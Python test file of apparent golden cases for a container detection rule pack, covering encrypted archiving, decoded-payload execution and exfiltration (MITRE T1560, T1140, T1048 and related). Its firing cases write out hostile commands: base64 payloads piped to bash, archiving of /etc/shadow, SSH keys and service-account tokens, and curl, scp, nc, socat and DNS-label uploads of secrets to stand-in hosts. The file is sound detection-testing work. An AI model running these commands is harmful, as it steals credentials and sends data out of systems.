"""Golden cases of stockade_40_collection.yaml: archiving (T1560.001/.002), decoding and decoded code
(T1140, T1027, T1027.013), encoded data and exfiltration (T1132.001, T1048, T1048.002, T1048.003).

Variants are written from the range of ways each technique is performed (tools, option spellings,
interpreters, the `sh -c` line of a procedure); near misses are ordinary container work (log
rotation, unpacking, health checks, an entrypoint web server) and the host."""

from __future__ import annotations

from typing import Any

from pack_events import (
    HOST,
    UNDER_RUNTIME,
    WRITE,
    PackCase,
    exec_,
    in_container,
    on_host,
    open_,
    v,
)

#: a process whose stdin is a pipe (the right-hand side of `... | x`)
PIPE_IN: dict[str, Any] = {"proc.stdin.type": "pipe", "proc.stdin.name": "pipe:[771204]"}
#: a process whose stdin is /dev/null (podman exec without -i)
NULL_IN: dict[str, Any] = {"proc.stdin.type": "file", "proc.stdin.name": "/dev/null"}


def file_in(path: str) -> dict[str, Any]:
    """stdin redirected from `path` (`x < path`)."""
    return {"proc.stdin.type": "file", "proc.stdin.name": path}


def file_out(path: str) -> dict[str, Any]:
    """stdout redirected to `path` (`x > path`)."""
    return {"proc.stdout.type": "file", "proc.stdout.name": path}


def sh_c(script: str, shell: str = "sh", **kw: Any) -> dict[str, Any]:
    """The exec of `<shell> -c <script>` by `podman exec` (its parent is the runtime)."""
    kw.setdefault("ancestors", UNDER_RUNTIME)
    return exec_(f"{shell} -c {script}", **kw)


def pid1(cmdline: str, **kw: Any) -> dict[str, Any]:
    """The exec of the container's own command (pid 1)."""
    return exec_(cmdline, vpid=1, ancestors=["conmon", "systemd"], **kw)


ENC = "SGVsbG8gZnJvbSBhIHRlc3QK"

CASES: list[PackCase] = [
    # -- archiving --------------------------------------------------------------------------------
    PackCase(
        "Encrypted Archive Created in Container",
        fires=[
            v("zip -P", exec_("zip -P infected art_encrypted.zip art_payload.sh")),
            v("zip --password", exec_("zip --password hunter2 /tmp/T1560 ./a ./b")),
            v("zip -er", exec_("zip -er /tmp/loot.zip /srv/data")),
            v("7z a -p", exec_("7z a -pS3cret -mhe=on /tmp/x.7z /srv/data")),
            v("gpg -c", exec_("gpg --batch --yes --passphrase-fd 0 --output /tmp/x.zip.gpg -c /tmp/x.zip")),
            v("gpg --symmetric", exec_("gpg --symmetric --cipher-algo AES256 /tmp/db.sql")),
            v(
                "openssl enc -aes-256-cbc",
                exec_("openssl enc -aes-256-cbc -pass pass:x -p -in /tmp/d.zip -out /tmp/d.enc"),
            ),
            v("openssl des3 as the pid 1 pipeline end", pid1("openssl des3 -salt -pass pass:atomic")),
            v("ccrypt", exec_("ccrypt -K key /srv/report.csv")),
        ],
        near_misses=[
            v("unzip -P (decrypting)", exec_("unzip -P infected -o /tmp/a.zip -d /tmp/")),
            v("openssl enc -d", exec_("openssl enc -d -aes-256-cbc -in /tmp/d.enc -out /tmp/d.zip")),
            v("openssl base64 (no cipher)", exec_("openssl enc -base64 -in /tmp/a")),
            v("openssl x509", exec_("openssl x509 -noout -dates -in /etc/ssl/certs/a.pem")),
            v("gpg --verify", exec_("gpg --verify SHA256SUMS.asc SHA256SUMS")),
            v("plain zip", exec_("zip -r /tmp/site.zip /srv/www")),
            v("on the host", exec_("zip -P x a.zip a", where=HOST)),
        ],
    ),
    PackCase(
        "Sensitive Data Archived in Container",
        fires=[
            v("tar of /etc", exec_("tar -zcvf /tmp/etc.tgz /etc")),
            v("tar of home", exec_("tar -cvzf /root/data.tar.gz /root/")),
            v("zip of ssh keys", exec_("zip -r /tmp/k.zip /home/app/.ssh")),
            v(
                "tar relative in /etc (cd /etc && tar -zcvf - *)",
                exec_("tar -zcvf - hosts passwd group") | {"proc.cwd": "/etc"},
            ),
            v("gzip -k of a file in /root", exec_("gzip -k /root/victim-gzip.txt")),
            v(
                "python gzip of /etc/passwd",
                exec_(
                    "python3 -c import gzip;f=open('/etc/passwd','rb');c=f.read();"
                    "o=gzip.GzipFile('/tmp/passwd.gz','wb');o.write(c)"
                ),
            ),
            v(
                "python zipfile of /etc/passwd",
                exec_(
                    "python3 -c from zipfile import ZipFile; ZipFile('/tmp/p.zip', mode='w').write('/etc/passwd')"
                ),
            ),
            v(
                "perl Archive::Tar of shadow",
                exec_("perl -MArchive::Tar -e Archive::Tar->create_archive('/tmp/s.tar',0,'/etc/shadow')"),
            ),
            v("the service account token", exec_("tar czf /tmp/t.tgz /var/run/secrets/kubernetes.io")),
        ],
        near_misses=[
            v("unpacking /etc config", exec_("tar -xzf /tmp/conf.tgz -C /etc")),
            v("listing an archive", exec_("tar tvf /root/backup.tar")),
            v("zcat of a rotated log", exec_("gzip -cd /var/log/syslog.2.gz")),
            v("on the host", exec_("tar czf /tmp/etc.tgz /etc", where=HOST)),
            v("package manager", exec_("tar -cf - /etc/apt", ancestors=["dpkg", "apt-get", "bash"])),
        ],
    ),
    PackCase(
        "Data Archived with Utility in Container",
        fires=[
            v("zip of logs (wtmp/btmp)", exec_("zip /tmp/data.zip /var/log/wtmp /var/log/btmp")),
            v("tar czf (old-style)", exec_("tar czf /tmp/out.tgz /srv/data")),
            v("tar --create", exec_("tar --create --gzip --file=/tmp/a.tgz /srv/data")),
            v("tar -C dir -cJf", exec_("tar -C /srv -cJf /tmp/a.txz data")),
            v("tar as pid 1 (sh -c exec'd it)", pid1("tar -cf /tmp/a.tar /srv/data")),
            v("bzip2 -k", exec_("bzip2 -k /srv/data/db.sql")),
            v("xz -9", exec_("xz -9 -T0 /srv/dump.bin")),
            v("zstd", exec_("zstd -19 /srv/data/export.csv -o /tmp/e.zst")),
            v("gzip as a filter into a file", exec_("gzip -9", {**PIPE_IN, **file_out("/tmp/collected.gz")})),
            v("7z a", exec_("7z a /tmp/a.7z /srv/data")),
            v("cpio -o", exec_("cpio -ov", file_out("/tmp/a.cpio"))),
        ],
        near_misses=[
            v(
                "log rotation: gzip of a rotated log",
                exec_("gzip /var/log/app/access.log.1", ancestors=["sh", "crond"]),
            ),
            v("log rotation by name elsewhere", exec_("gzip -f /srv/logs/app.log.2")),
            v("numbered rotation outside /var/log", exec_("gzip /srv/out/app.out.3")),
            v("dated rotation", exec_("xz /srv/out/access-20261207")),
            v(
                "logrotate's compressor",
                exec_("gzip", {**PIPE_IN, **file_out("/srv/x.1.gz")}, ancestors=["logrotate"]),
            ),
            v("gunzip", exec_("gzip -d /tmp/a.gz")),
            v("zcat", exec_("gzip -cd /tmp/a.gz")),
            v("xz -t", exec_("xz -t /tmp/a.xz")),
            v("tar -x", exec_("tar -xzf /tmp/a.tgz -C /srv")),
            v("tar xvf (old-style)", exec_("tar xvf /tmp/a.tar")),
            v("gzip filter to a pipe", exec_("gzip -c", {**PIPE_IN, "proc.stdout.type": "pipe"})),
            v("entrypoint script", exec_("tar -czf /tmp/seed.tgz /srv/seed", ancestors=["docker-entrypoi"])),
            v("on the host", exec_("tar czf /tmp/a.tgz /srv", where=on_host())),
            v("zip -v", exec_("zip -v")),
        ],
    ),
    PackCase(
        "Data Archived by Interpreter in Container",
        fires=[
            v("python bz2", exec_("python3 -c import bz2;c=bz2.compress(open('/srv/d','rb').read())")),
            v(
                "python tarfile",
                exec_("python3 -c import tarfile; t = tarfile.open('/tmp/x.tar','w'); t.add('/srv/data')"),
            ),
            v(
                "python shutil.make_archive",
                exec_("python3 -c import shutil; shutil.make_archive('/tmp/a', 'zip', '/srv')"),
            ),
            v("perl IO::Compress", exec_("perl -MIO::Compress::Gzip=gzip -e gzip '/srv/d' => '/tmp/d.gz'")),
            v(
                "ruby Zlib",
                exec_("ruby -rzlib -e Zlib::GzipWriter.open('/tmp/d.gz'){|g| g.write File.read('/srv/d')}"),
            ),
            v(
                "node zlib",
                exec_("node -e require('fs').writeFileSync('/tmp/d.gz', require('zlib').gzipSync('x'))"),
            ),
            v(
                "a python script writing a .tar.gz",
                open_("/tmp/collect.tar.gz", "python3 /tmp/collect.py", WRITE),
            ),
        ],
        near_misses=[
            v(
                "pip writing an sdist",
                open_("/tmp/pip-req-1x/pkg-1.0.tar.gz", "python3 -m pip install pkg", WRITE),
            ),
            v("an app reading an archive", open_("/srv/data.tar.gz", "python3 app.py")),
            v("the entrypoint app writing a .gz", open_("/srv/out/d.gz", "python3 app.py", WRITE, vpid=1)),
            v("python without archive code", exec_("python3 -c print(1)")),
            v("on the host", exec_("python3 -c import tarfile; tarfile.open('/tmp/x','w')", where=HOST)),
        ],
    ),
    # -- decoding ---------------------------------------------------------------------------------
    PackCase(
        "Decoded Payload Executed in Container",
        fires=[
            v("echo | base64 -d | bash (sh -c)", sh_c(f"echo {ENC} | base64 -d | bash")),
            v("base64 --decode | sh (bash -c)", sh_c(f"echo {ENC}|base64 --decode|sh", shell="bash")),
            v("as pid 1 (podman run img sh -c)", pid1(f"sh -c echo {ENC} | base64 -d | /bin/sh")),
            v("xxd -r -p | sh", sh_c("echo 6964 | xxd -r -p | sh")),
            v("openssl base64 -d | bash", sh_c(f"echo {ENC} | openssl base64 -d | bash")),
            v('bash -c "$(... base64 -d)"', sh_c(f'bash -c "$(echo {ENC} | base64 -d)"')),
            v("eval $(... base64 -d)", sh_c(f"eval $(echo {ENC} | base64 -d)", shell="bash")),
            v("source <(... base64 -d)", sh_c(f"source <(echo {ENC} | base64 -d)", shell="bash")),
            v("decoded python piped to python3", sh_c(f"echo {ENC} | base64 -d | python3")),
            v(
                "python b64decode + subprocess",
                exec_(
                    "python3 -c import base64; import subprocess; c = base64.b64decode('aWQ=').decode(); "
                    "subprocess.call(c, shell=True)"
                ),
            ),
            v(
                "python exec(b64decode)",
                exec_("python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))"),
            ),
            v(
                "perl eval(decode_base64)",
                exec_("perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))"),
            ),
            v("php eval(base64_decode)", exec_("php -r eval(base64_decode('ZWNobyAxOw=='));")),
            v(
                "node eval(Buffer.from(..,'base64'))",
                exec_("node -e eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"),
            ),
        ],
        near_misses=[
            v("base64 -d to the terminal", sh_c(f"echo {ENC} | base64 -d")),
            v("encoding piped on", sh_c("echo hi | base64 | tr -d =")),
            v(
                "python decoding and printing",
                exec_("python3 -c import base64;print(base64.b64decode('aGk='))"),
            ),
            v("on the host", exec_(f"sh -c echo {ENC} | base64 -d | bash", where=HOST)),
            v("a health check", sh_c("wget -qO- localhost:8080")),
        ],
    ),
    PackCase(
        "Decoded Data Piped to Shell in Container",
        fires=[
            v(
                "base64 -d then bash from a pipe",
                exec_("base64 -d", PIPE_IN, at=1.0, ancestors=["sh", "runc"]),
                exec_("bash", PIPE_IN, at=1.01, ancestors=["sh", "runc"]),
            ),
            v(
                "the shell exec'd first (pipeline race), then xxd -r",
                exec_("sh", PIPE_IN, at=2.0, ancestors=["bash", "runc"]),
                exec_("xxd -r -p", PIPE_IN, at=2.002, ancestors=["bash", "runc"]),
            ),
            v(
                "python decoding, bash -s reading",
                exec_(
                    "python3 -c import base64,sys;sys.stdout.write(base64.b64decode(sys.argv[1]).decode()) aWQ=",
                    at=3.0,
                ),
                exec_("bash -s", PIPE_IN, at=3.5),
            ),
        ],
        near_misses=[
            v(
                "too slow",
                exec_("base64 -d /tmp/a", at=1.0),
                exec_("sh", PIPE_IN, at=30.0),
            ),
            v(
                "a shell with stdin from /dev/null",
                exec_("base64 -d /tmp/a", at=1.0),
                exec_("sh", NULL_IN, at=1.1),
            ),
            v(
                "another container",
                exec_("base64 -d /tmp/a", at=1.0),
                exec_("sh", PIPE_IN, at=1.1, where=in_container(cid="77aa0d15c0de")),
            ),
            v(
                "encoding, not decoding",
                exec_("base64 -w0 /tmp/a", at=1.0),
                exec_("sh", PIPE_IN, at=1.1),
            ),
        ],
    ),
    PackCase(
        "Decoded File Executed in Container",
        fires=[
            v(
                "base64 -d > /tmp/art.sh; /tmp/art.sh",
                exec_("base64 -d", {**PIPE_IN, **file_out("/tmp/art.sh")}, at=1.0),
                exec_("/tmp/art.sh", at=1.2),
            ),
            v(
                "a script run by its path, as the kernel reports it (exe: the interpreter)",
                exec_("base64 -d", {**PIPE_IN, **file_out("/tmp/art.sh")}, at=1.0),
                exec_(
                    "art.sh /tmp/art.sh",
                    {"evt.arg.filename": "/tmp/art.sh", "proc.exe": "/bin/sh"},
                    exepath="/usr/bin/dash",
                    at=1.2,
                ),
            ),
            v(
                "xxd -r -p > f; sh f",
                exec_("xxd -r -p /tmp/e.hex", file_out("/var/tmp/p"), at=1.0),
                exec_("sh /var/tmp/p", at=2.0),
            ),
            v(
                "unzip -P then bash the payload",
                exec_("unzip -P infected -o /tmp/a.zip -d /tmp/", at=1.0),
                exec_("bash /tmp/art_payload.sh", at=1.5),
            ),
            v(
                "openssl enc -d -out, run as pid 1",
                exec_("openssl enc -d -aes-256-cbc -pass pass:x -in /tmp/e -out /tmp/x", at=1.0),
                exec_("/tmp/x", at=1.4, vpid=1),
            ),
        ],
        near_misses=[
            v(
                "decoded to the terminal, then a tool from /usr/bin",
                exec_("base64 -d /tmp/a", at=1.0),
                exec_("/usr/bin/id", at=1.2),
            ),
            v(
                "too slow",
                exec_("base64 -d", file_out("/tmp/art.sh"), at=1.0),
                exec_("/tmp/art.sh", at=90.0),
            ),
            v(
                "run first, decoded after",
                exec_("/tmp/art.sh", at=1.0),
                exec_("base64 -d", file_out("/tmp/art.sh"), at=1.2),
            ),
        ],
    ),
    PackCase(
        "Data Decoded in Container",
        fires=[
            v("base64 -d of a file", exec_("base64 -d /tmp/T1140.encoded")),
            v("base64 --decode from a pipe", exec_("base64 --decode", PIPE_IN)),
            v("base64 -di", exec_("base64 -di /tmp/x")),
            v("base64 -d as pid 1 (sh -c exec'd it)", pid1("base64 -d /tmp/T1140.encoded")),
            v("base32 -d", exec_("base32 -d /tmp/x")),
            v("xxd -r -p", exec_("xxd -r -p /tmp/x.hex")),
            v("openssl base64 -d", exec_("openssl base64 -d -in /tmp/x")),
            v("openssl enc -base64 -d", exec_("openssl enc -base64 -d -in /tmp/x")),
            v(
                "python b64decode",
                exec_('python3 -c import base64;dec=base64.b64decode("aGk=");print(dec.decode())'),
            ),
            v(
                "python from base64 import b64decode as d",
                exec_("python3 -c from base64 import b64decode as d;print(d('aGk='))"),
            ),
            v("python bytes.fromhex", exec_("python3 -c print(bytes.fromhex('6869'))")),
            v("perl decode_base64", exec_("perl -le use MIME::Base64;print(decode_base64('aGk='));")),
            v("perl pack H*", exec_('perl -e print pack("H*", "6869")')),
            v("ruby unpack1('m')", exec_("ruby -e puts 'aGk='.unpack1('m')")),
            v("printf of hex escapes (bash -c)", sh_c("printf '\\x69\\x64\\x0a'", shell="bash")),
            v("/usr/bin/printf of octal escapes", exec_("printf \\151\\144")),
        ],
        near_misses=[
            v("base64 encoding", exec_("base64 -w0 /tmp/a")),
            v("xxd dump", exec_("xxd -p /tmp/a")),
            v("an entrypoint rendering config", exec_("base64 -d", PIPE_IN, ancestors=["docker-entrypoi"])),
            v("perl encoding", exec_("perl -e use MIME::Base64;print(encode_base64('hi'));")),
            v("printf of a format", sh_c("printf '%s\\n' hello")),
            v("on the host", exec_("base64 -d /tmp/a", where=HOST)),
        ],
    ),
    PackCase(
        "Shell Reading Commands from Pipe in Container",
        fires=[
            v("... | sh", exec_("sh", PIPE_IN, ancestors=["sh", "runc"])),
            v("... | bash -s", exec_("bash -s", PIPE_IN, ancestors=["bash", "conmon"])),
            v("... | sh as a child of pid 1", exec_("dash", PIPE_IN, ancestors=["sh", "conmon"])),
        ],
        near_misses=[
            v("sh -c from a pipe", exec_("sh -c make", PIPE_IN)),
            v("a script", exec_("sh /srv/run.sh", PIPE_IN)),
            v("podman exec -i c sh", exec_("sh", PIPE_IN, ancestors=["runc", "conmon"])),
            v("the entrypoint", exec_("sh", PIPE_IN, vpid=1, ancestors=["conmon"])),
            v(
                "stdin a terminal",
                exec_("bash", {"proc.stdin.type": "file", "proc.stdin.name": "/dev/pts/0"}),
            ),
            v("on the host", exec_("sh", PIPE_IN, where=HOST)),
        ],
    ),
    # -- exfiltration -----------------------------------------------------------------------------
    PackCase(
        "Ad-hoc File Server Started in Container",
        fires=[
            v(
                "python3 -m http.server in /tmp",
                exec_("python3 -m http.server 9090", {"proc.cwd": "/tmp"}, ancestors=["sh", "conmon"]),
            ),
            v("python -m SimpleHTTPServer", exec_("python2 -m SimpleHTTPServer 1337")),
            v("php -S", exec_("php -S 0.0.0.0:8000 -t /")),
            v("ruby -run -e httpd", exec_("ruby -run -e httpd . -p 8000")),
            v("busybox httpd", exec_("busybox httpd -f -p 8000 -h /")),
            v("nc -l with a file on stdin", exec_("nc -lvp 4444", file_in("/etc/passwd"))),
            v("socat listening with a file", exec_("socat TCP-LISTEN:8000,fork,reuseaddr FILE:/etc/shadow")),
            v(
                "an http.server as pid 1 serving /root",
                pid1("python3 -m http.server", fields={"proc.cwd": "/root"}),
            ),
        ],
        near_misses=[
            v(
                "the entrypoint web server",
                pid1("python3 -m http.server 8080", fields={"proc.cwd": "/srv/www"}),
            ),
            v(
                "started by the entrypoint script",
                exec_("python3 -m http.server 8080", {"proc.cwd": "/srv"}, ancestors=["entrypoint.sh"]),
            ),
            v("nc -l with stdin /dev/null", exec_("nc -l 4444", NULL_IN)),
            v("a python app", exec_("python3 /srv/app.py")),
            v("on the host", exec_("python3 -m http.server", where=HOST)),
        ],
    ),
    PackCase(
        "Data Uploaded with Command-Line Tool in Container",
        fires=[
            v("curl -F file=@", exec_("curl -F file=@/tmp/artifact -F maxDownloads=1 https://file.io/")),
            v("curl -T", exec_("curl -T /tmp/loot.tgz ftp://203.0.113.7/")),
            v("curl --upload-file", exec_("curl --upload-file /etc/passwd https://x.example/")),
            v("curl --data-binary @", exec_("curl -s --data-binary @/etc/shadow https://x.example/")),
            v("curl -d @- from a pipe", exec_("curl -X POST -d @- http://203.0.113.7/", PIPE_IN)),
            v("curl -sSF (clustered)", exec_("curl -sSFf=@/tmp/a http://203.0.113.7/")),
            v("wget --post-file", exec_("wget --post-file=/tmp/artifact --timeout=5 https://example.com/")),
            v(
                "wget --post-data",
                exec_("wget --post-data=msg=secret --timeout=5 https://example.com/ --delete-after"),
            ),
            v("tftp put", exec_("tftp 203.0.113.7 -c put /tmp/a")),
            v("as pid 1", pid1("curl -T /tmp/a http://203.0.113.7/")),
        ],
        near_misses=[
            v("a health check", exec_("wget -qO- http://127.0.0.1:8080/")),
            v("curl -f localhost", exec_("curl -f localhost")),
            v("client loop GET", exec_("curl -fsSL http://api:8080/v1/items -o /dev/null")),
            v("JSON POST inline", exec_('curl -H Content-Type:application/json -d {"a":1} http://api:8080/')),
            v("on the host", exec_("curl -T /tmp/a http://x/", where=HOST)),
        ],
    ),
    PackCase(
        "Data Sent to Remote Host in Container",
        fires=[
            v("scp out", exec_("scp /tmp/loot.tgz attacker@203.0.113.7:/tmp/")),
            v("rsync out", exec_("rsync -az /srv/data backup@203.0.113.7:/x/")),
            v("rsync daemon", exec_("rsync -a /etc rsync://203.0.113.7/share/")),
            v("ssh running tar remotely", exec_("ssh target.example.com (cd /etc && tar -zcvf - *)")),
            v("ssh fed a pipe", exec_("ssh atomic@target.example.com cat > /Users.tar.gz.enc", PIPE_IN)),
            v("tar | ssh on the -c line", sh_c("tar czf - /srv | ssh u@203.0.113.7 'cat > x.tgz'")),
            v("nc host port < file (the -c line)", sh_c("nc 203.0.113.7 4444 < /etc/passwd")),
            v("nc with a file on stdin", exec_("nc 203.0.113.7 4444", file_in("/etc/passwd"))),
            v("cat | nc", exec_("nc -q0 203.0.113.7 4444", PIPE_IN)),
            v("socat file to tcp", exec_("socat FILE:/etc/passwd TCP:203.0.113.7:4444")),
            v(
                "openssl s_client -quiet fed a pipe",
                exec_("openssl s_client -quiet -connect 203.0.113.7:443", PIPE_IN),
            ),
            v("sftp", exec_("sftp -b /tmp/batch u@203.0.113.7")),
        ],
        near_misses=[
            v("rsync local copy", exec_("rsync -a /srv/a/ /srv/b/")),
            v("ssh with stdin /dev/null, no data command", exec_("ssh -n host uptime", NULL_IN)),
            v("redis ping over nc to localhost", exec_("nc localhost 6379", PIPE_IN)),
            v("nc -z probe", exec_("nc -z 10.0.0.5 5432")),
            v("a cert check", exec_("openssl s_client -connect api.example.com:443", PIPE_IN)),
            v("the -c line of a health check", sh_c("curl -f localhost:8080 | grep ok")),
            v("on the host", exec_("scp /tmp/a u@h:/x", where=HOST)),
        ],
    ),
    PackCase(
        "Encoded Data Sent over Network in Container",
        fires=[
            v(
                "dig with a base64 label",
                exec_("dig @8.8.8.8 -p 53 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com"),
            ),
            v(
                "dig $(... | base64) on the -c line",
                sh_c('dig @8.8.8.8 -p 53 $(echo "secret" | base64).google.com', shell="bash"),
            ),
            v(
                "dig of xxd -p labels in a loop",
                sh_c("xxd -p input_file > d.hex; for data in `cat d.hex`; do dig $data.domain; done"),
            ),
            v(
                "nslookup of a long hex label",
                exec_("nslookup 54686973206973206120736563726574.evil.example"),
            ),
            v("curl to a base64 host", exec_("curl -XPOST MTExLTExLTExMTE=.redcanary.com")),
            v(
                "echo | base64 then curl (-c line)",
                sh_c("echo -n 111-11-1111 | base64\ncurl -XPOST MTExLTExLTExMTE=.redcanary.com"),
            ),
            v("curl with base64 of a file", sh_c('curl -d "$(base64 -w0 /etc/passwd)" http://203.0.113.7/')),
            v("ping $(whoami).domain", sh_c("ping -c1 $(whoami).exfil.example")),
            v("host as pid 1", pid1("host 4a6f686e20446f65206973206120736563726574.example.net")),
        ],
        near_misses=[
            v("dig of a service", exec_("dig +short db.default.svc.cluster.local")),
            v("nslookup of a normal name", exec_("nslookup api.example.com")),
            v("a health check", sh_c("wget -qO- http://127.0.0.1:8080/healthz")),
            v("curl to a versioned URL", exec_("curl -fsSL https://example.com/v1/items?id=42")),
            v("base64 with no network", sh_c("base64 -w0 /srv/cert.pem > /srv/cert.b64")),
            v("curl of $(hostname):port", sh_c("curl -f http://$(hostname):8080/")),
            v("on the host", exec_("dig dGhpcyBpcyBhIHNlY3JldA==.example.com", where=HOST)),
        ],
    ),
]
